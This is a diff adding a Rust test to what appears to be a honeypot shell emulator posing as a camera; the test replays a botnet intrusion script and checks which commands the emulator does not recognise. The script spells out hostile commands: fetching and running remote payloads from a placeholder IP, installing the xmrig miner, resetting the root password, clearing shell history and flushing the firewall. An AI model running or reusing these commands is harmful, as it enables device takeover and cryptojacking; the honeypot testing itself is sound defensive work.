@@ -408,3 +408,37 @@ fn the_debian_machine_keeps_its_x86_64_binaries() {
     assert!(run(&mut sh, "lscpu").starts_with("Architecture:            x86_64"));
     assert!(run(&mut sh, "cat /proc/mounts").starts_with("/dev/vda1 / ext4"));
 }
+
+#[test]
+fn a_server_bots_script_misses_only_what_no_camera_has() {
+    // The SSH tests' bot script (tests/tests.rs), typed at the camera.
+    const SCRIPT: &str = r#"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh
+cd /tmp; wget -q http://198.51.100.7/x -O .x; chmod +x .x; ./.x
+cat /proc/cpuinfo | grep name | wc -l
+uname -a; nproc; free -m
+busybox ps; busybox cat /proc/mounts | head -1
+crontab -l
+ls -la /dev/shm; ls -la ~/.ssh
+unset HISTFILE; export HISTFILE=/dev/null; history -c
+cat /etc/issue
+lscpu | grep Model; top -bn1 | head -3
+ps aux | grep -v grep | grep xmrig; pkill -9 xmrig; killall -9 kinsing
+chattr -ia /etc/passwd; lsattr /etc/passwd
+echo 'root:Abc123' | chpasswd
+mkdir -p /tmp/.x && cd /tmp/.x && curl -s -O http://198.51.100.7/xmrig.tar.gz && tar xzf xmrig.tar.gz; nohup ./xmrig -o pool:3333 >/dev/null 2>&1 &
+which ls wget curl perl; getconf LONG_BIT; arch
+for i in 1 2 3; do echo $i; done
+find /tmp -maxdepth 1 -type d | head -3; od -c /etc/hostname | head -1
+ulimit -n 65535; sysctl -w vm.nr_hugepages=128; iptables -F; systemctl stop firewalld
+cat /proc/version; uptime; w; id"#;
+    let mut missing = Vec::new();
+    for line in SCRIPT.lines() {
+        let mut sh = device();
+        let out = sh.exec(line);
+        for (_, notes) in with_notes(out.actions) {
+            missing.extend(notes.unknown);
+        }
+    }
+    // (`./xmrig` is missing on Debian too: `tar` extracts nothing.)
+    assert_eq!(missing, ["lscpu", "./xmrig", "getconf", "systemctl"]);
+}
